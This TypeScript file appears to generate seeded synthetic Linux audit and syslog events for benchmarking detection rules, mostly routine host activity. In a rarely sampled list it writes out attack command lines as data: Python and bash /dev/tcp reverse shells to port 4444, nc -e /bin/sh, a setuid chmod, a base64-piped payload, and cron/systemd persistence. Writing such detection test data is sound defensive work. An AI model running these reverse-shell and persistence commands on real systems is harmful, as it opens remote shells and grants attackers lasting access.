import { SeededRandom } from './sigma-random.ts';

type Event = Readonly<Record<string, unknown>>;
type Shape = (random: SeededRandom) => Event;

const users = ['root', 'alice', 'bob', 'www-data', 'postgres', 'deploy', 'backup'] as const;
const shells = [
  '/usr/bin/bash',
  '/usr/bin/dash',
  '/usr/sbin/cron',
  '/usr/sbin/sshd',
  '/usr/bin/python3.11',
  '/usr/lib/systemd/systemd',
] as const;

function started(executable: string, commandLine: (random: SeededRandom) => string): Shape {
  return (random) => {
    const user = random.pick(users);
    const parent = random.pick(shells);
    return {
      ...base(random, 'auditd'),
      event: {
        category: ['process'],
        type: ['start'],
        action: 'executed',
        module: 'auditd',
        code: '1300',
        outcome: 'success',
      },
      process: {
        pid: 1000 + random.integer(60000),
        executable,
        name: executable.split('/').at(-1),
        command_line: commandLine(random),
        working_directory: random.pick(['/', '/root', `/home/${user}`, '/var/lib/postgresql', '/srv/app']),
        parent: { pid: random.integer(60000), executable: parent, command_line: `${parent} ${random.hex(4)}` },
      },
      user: { id: String(random.integer(2000)), name: user },
    };
  };
}

function connected(
  executable: string,
  address: (random: SeededRandom) => string,
  port: (random: SeededRandom) => number,
): Shape {
  return (random) => ({
    ...base(random, 'auditd'),
    event: {
      category: ['network'],
      type: ['connection', 'start'],
      action: 'connected-to',
      module: 'auditd',
      code: '1300',
    },
    process: { pid: 1000 + random.integer(60000), executable, name: executable.split('/').at(-1) },
    destination: { ip: address(random), port: port(random) },
    network: { transport: 'tcp', direction: 'egress' },
    user: { name: random.pick(users) },
  });
}

function wrote(executable: string, path: (random: SeededRandom) => string): Shape {
  return (random) => ({
    ...base(random, 'auditd'),
    event: { category: ['file'], type: ['creation'], action: 'opened-file', module: 'auditd', code: '1302' },
    process: { pid: 1000 + random.integer(60000), executable, name: executable.split('/').at(-1) },
    file: { path: path(random) },
    auditd: { data: { type: 'PATH', name: path(random), nametype: 'CREATE' } },
    user: { name: random.pick(users) },
  });
}

function logged(name: string, message: (random: SeededRandom) => string): Shape {
  return (random) => ({
    ...base(random, 'syslog'),
    event: { category: ['session'], type: ['info'], module: 'syslog' },
    process: { name, pid: random.integer(60000) },
    message: message(random),
  });
}

function base(random: SeededRandom, dataset: string): Event {
  return {
    '@timestamp': `2025-03-01T12:${String(random.integer(60)).padStart(2, '0')}:${String(random.integer(60)).padStart(2, '0')}.000Z`,
    host: { name: `host-${random.integer(40)}`, os: { type: 'linux' } },
    ecs: { version: '8.11.0' },
    data_stream: { dataset },
  };
}

const privateIp = (random: SeededRandom): string =>
  `10.${random.integer(256)}.${random.integer(256)}.${random.integer(256)}`;
const publicIp = (random: SeededRandom): string => `203.0.${random.integer(256)}.${random.integer(256)}`;

/** What an ordinary Linux host does all day, and now and then what rules are written for. */
const shapes: readonly [Shape, ...Shape[]] = [
  started('/usr/bin/ls', (random) => `ls -la /srv/app/releases/${random.hex(8)}`),
  started('/usr/bin/ps', () => 'ps -eo pid,ppid,user,args --no-headers'),
  started('/usr/bin/grep', (random) => `grep -rn --include=*.conf ${random.hex(6)} /etc/nginx`),
  started(
    '/usr/bin/python3.11',
    (random) => `/usr/bin/python3 /srv/app/worker.py --queue mail --job ${random.hex(16)}`,
  ),
  started('/usr/bin/python3.11', (random) => `python3 -m pytest tests/test_${random.hex(4)}.py -q`),
  started(
    '/usr/bin/python3.11',
    (random) => `python3 -c import json,sys;print(json.load(sys.stdin)["${random.hex(5)}"])`,
  ),
  started('/usr/bin/git', (random) => `git fetch --prune origin +refs/heads/${random.hex(7)}:refs/remotes/origin/main`),
  started('/usr/bin/dash', (random) => `/bin/sh -c cd / && run-parts --report /etc/cron.hourly # ${random.hex(4)}`),
  started('/usr/bin/bash', (random) => `-bash --login ${random.hex(2)}`),
  started('/usr/bin/curl', (random) => `curl -fsS --max-time 10 https://health.internal/${random.hex(12)}`),
  started('/usr/bin/apt-get', () => 'apt-get -qq -y upgrade -o Dpkg::Options::=--force-confold'),
  started('/usr/bin/systemctl', (random) => `systemctl is-active app@${random.integer(99)}.service`),
  started('/usr/sbin/sshd', (random) => `sshd: ${random.pick(users)} [priv] ${random.integer(9)}`),
  started('/usr/bin/docker', (random) => `docker exec -i web-${random.hex(3)} php artisan schedule:run`),
  started('/usr/lib/postgresql/15/bin/postgres', (random) => `postgres: autovacuum worker app_${random.hex(4)}`),
  started('/usr/bin/node', (random) => `node --enable-source-maps dist/server.js --instance ${random.hex(10)}`),
  started('/usr/bin/find', (random) => `find /var/cache/app -type f -mtime +${random.integer(30)} -delete`),
  started('/usr/bin/tar', (random) => `tar -czf /backup/${random.hex(8)}.tar.gz -C /srv app`),
  connected('/usr/bin/python3.11', privateIp, () => 5432),
  connected('/usr/bin/curl', privateIp, () => 443),
  connected(
    '/usr/bin/node',
    () => '127.0.0.1',
    () => 6379,
  ),
  connected('/usr/bin/ssh', privateIp, () => 22),
  connected('/usr/lib/apt/methods/https', publicIp, () => 443),
  wrote('/usr/bin/python3.11', (random) => `/srv/app/var/cache/${random.hex(12)}.tmp`),
  wrote('/usr/bin/dpkg', (random) => `/var/lib/dpkg/tmp.ci/${random.hex(6)}.md5sums`),
  wrote('/usr/sbin/logrotate', (random) => `/var/log/nginx/access.log.${random.integer(14)}.gz`),
  wrote('/usr/bin/vim.basic', (random) => `/home/alice/notes/.${random.hex(4)}.swp`),
  logged(
    'sshd',
    (random) =>
      `Accepted publickey for ${random.pick(users)} from ${privateIp(random)} port ${random.integer(65535)} ssh2: ED25519 SHA256:${random.hex(40)}`,
  ),
  logged('sshd', (random) => `pam_unix(sshd:session): session closed for user ${random.pick(users)}`),
  logged('CRON', (random) => `(${random.pick(users)}) CMD (/srv/app/bin/rotate ${random.hex(6)})`),
  logged('CRON', () => 'pam_unix(cron:session): session closed for user root'),
  logged('kernel', (random) => `audit: backlog limit ${random.integer(9999)}`),
];

/** What rules are written for; one event in forty. */
const rareShapes: readonly [Shape, ...Shape[]] = [
  started(
    '/usr/bin/python3.11',
    (random) =>
      `python3 -c import socket,os,pty;s=socket.socket();s.connect(("${publicIp(random)}",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")`,
  ),
  started('/usr/bin/bash', (random) => `bash -i >& /dev/tcp/${publicIp(random)}/4444 0>&1`),
  started('/usr/bin/nc', (random) => `nc -e /bin/sh -nlvp ${random.integer(65535)}`),
  started('/usr/bin/chmod', (random) => `chmod u+s /tmp/.${random.hex(6)}/helper.elf`),
  started(
    '/usr/bin/base64',
    () => `echo ${Buffer.from('x;import os;os.system("id");socket.socket(').toString('base64')} | base64 -d | python3`,
  ),
  connected('/usr/bin/nc', publicIp, () => 4444),
  connected('/usr/bin/python3.11', publicIp, (random) => 1024 + random.integer(9000)),
  wrote('/usr/bin/tee', (random) => `/etc/cron.d/${random.hex(4)}.sh`),
  wrote('/usr/bin/cp', () => '/etc/systemd/system/updater.service'),
  logged('sshd', (random) => `Failed password for root from ${publicIp(random)} port ${random.integer(65535)} ssh2`),
  logged('CRON', () => '(root) CMD (python3 /var/tmp/.x/run.py)'),
];

/** So many events, as a collector would hand them over; the same for the same seed. */
export function benchEvents(count: number, seed: number): readonly Event[] {
  const random = new SeededRandom(seed);
  return Array.from({ length: count }, () => random.pick(random.integer(40) === 0 ? rareShapes : shapes)(random));
}
